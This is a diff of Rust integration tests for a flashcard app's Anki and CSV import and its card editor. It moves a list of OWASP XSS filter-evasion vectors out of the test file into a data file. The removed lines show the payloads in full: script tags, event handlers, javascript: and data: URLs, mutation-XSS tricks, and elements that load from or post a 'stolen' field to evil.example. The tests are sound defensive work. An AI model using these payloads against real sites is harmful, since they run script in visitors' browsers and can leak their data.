@@ -6,39 +6,14 @@
 use crate::helpers::{TestApp, spawn_app, upload, upload_to};
 use reqwest::StatusCode;
 
-/// Hostile fields: OWASP filter-evasion vectors and the ways an Anki field can carry script.
-const HOSTILE: &[&str] = &[
-    r#"<script>alert(1)</script>"#,
-    r#"<img src=x onerror=alert(1)>"#,
-    r#"<img src="javascript:alert(1)">"#,
-    r#"<a href="javascript:alert(1)">x</a>"#,
-    r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
-    r#"<a href="&#106;avascript:alert(1)">x</a>"#,
-    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
-    r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#,
-    r#"<svg onload=alert(1)><script>alert(1)</script></svg>"#,
-    r#"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>"#,
-    r#"<iframe src="https://evil.example/"></iframe>"#,
-    r#"<form action="https://evil.example/"><input name=stolen><button>go</button></form>"#,
-    r#"<div style="background:url(https://evil.example/x)">x</div>"#,
-    r#"<style>body{background:url(https://evil.example/x)}</style>"#,
-    r#"<body onload=alert(1)>"#,
-    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
-    r#"<object data="javascript:alert(1)"></object>"#,
-    r#"<embed src="javascript:alert(1)">"#,
-    r##"<a href="#" onclick="alert(1)">x</a>"##,
-    r#"<IMG SRC=JaVaScRiPt:alert('XSS')>"#,
-    r#"<img """><script>alert("XSS")</script>">"#,
-    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
-    r#"<link rel=stylesheet href="https://evil.example/x.css">"#,
-    r#"<base href="https://evil.example/">"#,
-    r#"<img src="https://evil.example/track.png">"#,
-    r#"<details open ontoggle=alert(1)>"#,
-    r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
-    r#"<!--<img src="--><img src=x onerror=alert(1)//">"#,
-    r#"\(\href{javascript:alert(1)}{x}\)"#,
-    r#"<p title="\(x</p><script>alert(1)</script>\)">y</p>"#,
-];
+/// Hostile fields: OWASP filter-evasion vectors and the ways an Anki field can carry script,
+/// one a line in `tests/data/xss-vectors.txt` (src/markup.rs's unit tests read the same list).
+fn hostile() -> Vec<&'static str> {
+    include_str!("../data/xss-vectors.txt")
+        .lines()
+        .filter(|l| !l.is_empty() && !l.starts_with("# "))
+        .collect()
+}
 
 /// The tags of a page, each from `<` to its `>` outside quotes, in lower case: text between
 /// tags is escaped, so harmless whatever it says.
@@ -147,7 +122,7 @@ async fn assert_deck_pages_are_harmless(app: &TestApp, deck: i64, what: &str) ->
         .fetch_all(&app.pool().await)
         .await
         .unwrap();
-    assert!(ids.len() >= HOSTILE.len(), "{what}: {} cards", ids.len());
+    assert!(ids.len() >= hostile().len(), "{what}: {} cards", ids.len());
     for id in ids {
         let page = app.get_html(&format!("/cards/{id}")).await;
         assert_nothing_runs(&page, &format!("{what}: card {id}"));
@@ -167,7 +142,7 @@ async fn apkg(notes: &[(String, String)]) -> Vec<u8> {
 async fn hostile_anki_fields_are_neutralised_and_formatting_shows() {
     let app = spawn_app().await;
     app.register_ok("admin").await;
-    let mut notes: Vec<(String, String)> = HOSTILE
+    let mut notes: Vec<(String, String)> = hostile()
         .iter()
         .enumerate()
         .map(|(i, h)| (format!("F{i} {h}"), format!("<b>bold {i}</b> {h}")))
@@ -240,7 +215,7 @@ async fn hostile_anki_fields_are_neutralised_and_formatting_shows() {
 async fn hostile_text_files_stay_plain_text_as_before() {
     let app = spawn_app().await;
     app.register_ok("admin").await;
-    let tsv: String = HOSTILE
+    let tsv: String = hostile()
         .iter()
         .enumerate()
         .map(|(i, h)| format!("T{i} {h}\t<b>bold {i}</b>\n"))
@@ -249,7 +224,7 @@ async fn hostile_text_files_stay_plain_text_as_before() {
     assert!(r.text().await.unwrap().contains("Imported"));
     let mut writer = csv::Writer::from_writer(Vec::new());
     writer.write_record(["front", "back"]).unwrap();
-    for (i, h) in HOSTILE.iter().enumerate() {
+    for (i, h) in hostile().iter().enumerate() {
         writer
             .write_record([format!("C{i} {h}"), format!("<b>bold {i}</b>")])
             .unwrap();
@@ -282,7 +257,7 @@ async fn hostile_html_typed_in_the_editor_is_neutralised_and_formatting_shows() 
     let deck = deck_id(&app, "Typed").await;
     let edit = format!("/decks/{deck}/edit");
     let add = format!("/decks/{deck}/cards");
-    for (i, h) in HOSTILE.iter().enumerate() {
+    for (i, h) in hostile().iter().enumerate() {
         let front = format!("E{i} {h}");
         let back = format!("<b>bold {i}</b> <ol><li>first</li></ol> {h}");
         // The preview shows it, unsaved, as students would see it.
